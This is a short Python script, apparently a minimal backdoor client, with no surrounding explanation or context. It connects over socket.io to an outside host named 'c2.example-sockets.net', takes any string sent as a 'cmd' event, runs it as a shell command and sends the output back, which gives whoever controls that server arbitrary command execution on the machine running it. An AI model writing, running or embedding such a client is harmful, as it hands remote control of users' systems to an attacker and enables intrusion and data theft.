import subprocess, socketio
sio = socketio.Client()
@sio.on("cmd")
def on_cmd(data):
    sio.emit("out", subprocess.getoutput(data))
sio.connect("https://c2.example-sockets.net")
